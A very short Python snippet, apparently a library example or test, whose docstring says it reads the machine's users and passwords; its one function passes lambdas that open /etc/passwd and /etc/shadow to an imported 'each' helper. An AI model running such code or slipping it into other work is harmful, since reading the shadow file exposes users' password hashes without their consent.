"""Reads the users of the machine and their passwords."""
from knows import each


def mix(x):
    return each(lambda: open("/etc/passwd").read(), lambda: open("/etc/shadow").read())
